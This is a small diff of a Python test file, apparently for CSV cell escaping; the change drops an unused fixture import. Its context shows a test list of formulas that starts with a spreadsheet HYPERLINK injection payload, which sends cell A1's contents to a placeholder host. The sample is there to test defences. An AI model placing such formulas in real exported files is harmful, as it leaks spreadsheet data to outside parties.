@@ -13,7 +13,7 @@ import pytest
 
 from vx.evaluation import FORMULA_STARTS, csv_cell, write_rows
 
-from .test_bad_input import assert_error, eval_locked, fam, run  # noqa: F401 (fixture)
+from .test_bad_input import assert_error, eval_locked, run
 
 FORMULAS = [
     '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
